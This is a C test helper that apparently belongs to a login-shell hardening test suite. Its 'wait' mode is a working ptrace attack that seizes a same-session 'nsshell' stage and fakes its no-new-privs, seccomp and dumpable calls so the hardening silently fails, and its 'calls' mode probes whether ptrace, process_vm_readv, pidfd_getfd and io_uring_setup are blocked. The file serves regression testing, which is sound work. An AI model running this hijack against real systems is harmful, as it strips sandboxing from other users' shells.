/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The attack of security issue 12, item 1, for 62-login-shell-ptrace.test: run
 * by a user inside a session, it waits for the next login-shell stage of the
 * same session (a process named "nsshell" among the next pids of its pid
 * namespace, as a second channel of the same ssh connection starts it),
 * attaches to it with PTRACE_SEIZE and, if that works, makes the stage's
 * hardening calls return success without effect (PR_GET_DUMPABLE says 0,
 * PR_SET_NO_NEW_PRIVS and seccomp() are skipped, PR_GET_NO_NEW_PRIVS says 1)
 * until it execs the shell, then lets go.
 *
 *   stage-hijack wait SECONDS    the attack; prints "ready" once it watches,
 *                                then "refused pid N: ERRNO" for every refused
 *                                attach on a stage, or "hijacked pid N: K calls
 *                                faked"; exit 0 refused, 1 hijacked, 2 no stage
 *                                seen in time
 *   stage-hijack calls           from a confined shell: ptrace, process_vm_readv,
 *                                pidfd_getfd on a child of its own, and
 *                                io_uring_setup; one "NAME: ok|ERRNO" line each
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CANDIDATES 8

static bool comm_is(pid_t pid, const char *name) {
        char path[64], comm[32] = "";
        FILE *f;

        snprintf(path, sizeof(path), "/proc/%d/comm", (int) pid);
        f = fopen(path, "re");
        if (!f)
                return false;
        if (!fgets(comm, sizeof(comm), f))
                comm[0] = '\0';
        fclose(f);
        comm[strcspn(comm, "\n")] = '\0';
        return strcmp(comm, name) == 0;
}

static long last_pid(void) {
        FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "re");
        long pid = -1;

        if (f) {
                if (fscanf(f, "%ld", &pid) != 1)
                        pid = -1;
                fclose(f);
        }
        return pid;
}

#if defined(__x86_64__)
/* The value a faked call returns, or -1 to let it run. */
static long fake_result(const struct user_regs_struct *r) {
        if (r->orig_rax == SYS_seccomp)
                return 0;
        if (r->orig_rax != SYS_prctl)
                return -1;
        switch (r->rdi) {
        case PR_GET_DUMPABLE:
                return 0;
        case PR_SET_NO_NEW_PRIVS:
        case PR_SET_SECCOMP:
                return 0;
        case PR_GET_NO_NEW_PRIVS:
                return 1;
        }
        return -1;
}

/* Attached to PID: fake its hardening calls until it execs, then detach. */
static int hijack(pid_t pid) {
        struct user_regs_struct regs;
        bool entering = true;
        long fake = -1;
        int status = 0, faked = 0, stops = 0;
        const char *end = "waitpid failed";

        for (;; stops++) {
                if (waitpid(pid, &status, __WALL) < 0)
                        break;
                if (WIFEXITED(status) || WIFSIGNALED(status)) {
                        end = "it ended";
                        break;
                }
                if (status >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) {
                        /* seized inside the stage's own execve(): go on */
                        if (comm_is(pid, "nsshell")) {
                                (void) ptrace(PTRACE_SYSCALL, pid, 0, 0);
                                continue;
                        }
                        (void) ptrace(PTRACE_DETACH, pid, 0, 0);
                        end = "it execed";
                        break;
                }
                if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
                        struct __ptrace_syscall_info info = {0};
                        if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(info), &info) > 0)
                                entering = info.op == PTRACE_SYSCALL_INFO_ENTRY;
                        if (ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
                                if (entering) {
                                        fake = fake_result(&regs);
                                        if (fake >= 0) {
                                                regs.orig_rax = -1; /* skip the call */
                                                faked++;
                                        }
                                } else if (fake >= 0)
                                        regs.rax = (unsigned long long) fake;
                                (void) ptrace(PTRACE_SETREGS, pid, 0, &regs);
                        }
                        (void) ptrace(PTRACE_SYSCALL, pid, 0, 0);
                } else if (status >> 16 == PTRACE_EVENT_STOP)
                        (void) ptrace(PTRACE_SYSCALL, pid, 0, 0);
                else
                        (void) ptrace(PTRACE_SYSCALL, pid, 0, WSTOPSIG(status));
        }
        printf("hijacked pid %d: %d calls faked (%d stops, %s)\n", (int) pid, faked, stops, end);
        return 1;
}

#else
static int hijack(pid_t pid) {
        (void) ptrace(PTRACE_DETACH, pid, 0, 0);
        printf("hijacked pid %d: attached (faking calls is implemented for x86_64 only)\n", (int) pid);
        return 1;
}
#endif

static int try_attach(pid_t pid, int *refused) {
        if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC) < 0) {
                int e = errno;
                if (e != ESRCH && comm_is(pid, "nsshell")) {
                        if (*refused == 0)
                                printf("refused pid %d: %s\n", (int) pid, strerrorname_np(e));
                        (*refused)++;
                }
                return 0;
        }
        if (!comm_is(pid, "nsshell")) {
                (void) ptrace(PTRACE_DETACH, pid, 0, 0);
                return 0;
        }
        (void) ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        return hijack(pid);
}

static int cmd_wait(int seconds) {
        long base = last_pid();
        time_t end = time(NULL) + seconds;
        int refused = 0;

        if (base < 0) {
                printf("cannot read ns_last_pid\n");
                return 3;
        }
        printf("ready\n");
        fflush(stdout);
        while (time(NULL) < end) {
                for (pid_t pid = (pid_t) base + 1; pid <= (pid_t) base + CANDIDATES; pid++)
                        if (try_attach(pid, &refused))
                                return 1;
                /* once a refused stage has moved on (exec'd the shell), stop */
                if (refused > 0) {
                        bool any = false;
                        for (pid_t pid = (pid_t) base + 1; pid <= (pid_t) base + CANDIDATES; pid++)
                                any = any || comm_is(pid, "nsshell");
                        if (!any)
                                break;
                }
        }
        printf("refused %d attempts\n", refused);
        return refused > 0 ? 0 : 2;
}

static void report(const char *name, long r) {
        printf("%s: %s\n", name, r < 0 ? strerrorname_np(errno) : "ok");
}

static int cmd_calls(void) {
        struct io_uring_params params = {0};
        char buf[16] = "", dst[16];
        struct iovec local = {dst, sizeof(dst)}, remote = {buf, sizeof(buf)};
        pid_t child = fork();
        long r;
        int pidfd;

        if (child == 0) {
                pause();
                _exit(0);
        }
        report("ptrace", ptrace(PTRACE_ATTACH, child, 0, 0));
        report("process_vm_readv", process_vm_readv(child, &local, 1, &remote, 1, 0));
        pidfd = (int) syscall(SYS_pidfd_open, child, 0);
        report("pidfd_getfd", pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 0, 0));
        r = syscall(SYS_io_uring_setup, 1, &params);
        report("io_uring_setup", r);
        (void) kill(child, SIGKILL);
        (void) waitpid(child, NULL, 0);
        return 0;
}

int main(int argc, char **argv) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 3 && strcmp(argv[1], "wait") == 0)
                return cmd_wait(atoi(argv[2]));
        if (argc == 2 && strcmp(argv[1], "calls") == 0)
                return cmd_calls();
        fprintf(stderr, "usage: stage-hijack wait SECONDS | calls\n");
        return 2;
}
